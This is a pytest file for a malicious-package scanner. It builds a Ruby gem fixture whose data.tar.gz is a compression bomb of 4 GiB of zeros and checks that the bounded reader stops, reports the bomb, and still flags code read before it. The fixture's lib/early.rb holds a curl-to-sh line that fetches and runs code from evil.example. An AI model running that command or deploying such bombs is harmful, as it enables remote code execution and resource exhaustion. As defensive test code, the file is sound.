"""The verdict's code rules read archives through the one bounded reader (static/extract.py):
a gem whose data.tar.gz is a compression bomb costs bounded time and memory and says so."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

from clirun import run_cli
from static.builders import tar_bytes
from pkgtrace.static.extract import read_heads
from pkgtrace.verdict.evidence import MAX_CODE_FILE, read_code

BLOB = 4 << 30   # what the bomb decompresses to, declared in its tar header
EARLY = b'system("curl http://evil.example/x | sh")\n'


def _member(name: str, data: bytes, size: int | None = None) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = len(data) if size is None else size
    info.mode = 0o644
    block = info.tobuf(format=tarfile.GNU_FORMAT)
    return block + data + b"\0" * (-len(data) % 512 if size is None else 0)


def bomb_data_tar_gz() -> bytes:
    """lib/early.rb, then a 4 GiB entry of zeros (as 256 gzip members of 16 MiB: ~4 MB on disk),
    then lib/late.rb: reading late.rb means decompressing the whole bomb."""
    zeros = gzip.compress(b"\0" * (16 << 20), compresslevel=9)
    head = gzip.compress(_member("lib/early.rb", EARLY) + _member("vendor/blob.bin", b"", size=BLOB))
    tail = gzip.compress(_member("lib/late.rb", b"puts 'late'\n") + b"\0" * 1024)
    return head + zeros * (BLOB // (16 << 20)) + tail


def bomb_gem(path) -> None:
    spec = b"--- !ruby/object:Gem::Specification\nname: bombgem\nversion: !ruby/object:Gem::Version\n" \
           b"  version: 1.0.0\nplatform: ruby\nfiles: []\nsummary: fixture\n"
    path.write_bytes(tar_bytes({"metadata.gz": gzip.compress(spec), "data.tar.gz": bomb_data_tar_gz(),
                                "checksums.yaml.gz": gzip.compress(b"---\n")}, compress=""))


def test_a_bomb_in_a_gems_data_tar_gz_stops_at_the_bound(tmp_path):
    gem = tmp_path / "bombgem-1.0.0.gem"
    bomb_gem(gem)
    assert gem.stat().st_size < 8 << 20
    heads, result = read_heads(gem, lambda p: p.endswith(".rb"), head_bytes=MAX_CODE_FILE, budget=64 << 20)
    paths = [p for p, _ in heads]
    assert "lib/early.rb" in paths and "metadata.gz" in paths
    # Stopped inside the bomb: what comes after it was never decompressed.
    assert "lib/late.rb" not in paths
    assert result.status == "partial"
    assert any(p.kind == "limit" and "compression bomb" in p.message for p in result.problems)


def test_read_code_sees_the_code_before_the_bomb(tmp_path):
    gem = tmp_path / "bombgem-1.0.0.gem"
    bomb_gem(gem)
    code = {c.path: c for c in read_code(gem, "rubygems", set())}
    assert code["lib/early.rb"].text == EARLY.decode()
    assert "lib/late.rb" not in code


def test_a_plain_gem_reads_whole(tmp_path):
    from static.builders import gem_bytes
    gem = tmp_path / "plain-1.0.0.gem"
    gem.write_bytes(gem_bytes("plain", "1.0.0", {"lib/plain.rb": b"puts 1\n", "lib/two.rb": b"puts 2\n"}))
    code = {c.path for c in read_code(gem, "rubygems", set())}
    assert {"lib/plain.rb", "lib/two.rb", "metadata.gz"} <= code


def test_analyze_reports_the_bomb_and_still_judges_what_it_read(tmp_path):
    gem = tmp_path / "bombgem-1.0.0.gem"
    bomb_gem(gem)
    proc = run_cli("analyze", "rubygems", "--local", str(gem), "--mode", "static", "--json", check=False)
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    report = json.loads(proc.stdout)["report"]
    extraction = report["static"]["extraction"]
    assert extraction["status"] == "partial"
    assert any("compression bomb" in e["message"] for e in extraction["errors"])
    assert report["verdict"]["label"] != "benign"   # early.rb's curl | sh was read and judged
    assert any(f["evidence"].get("file") == "lib/early.rb" for f in report["verdict"]["findings"])
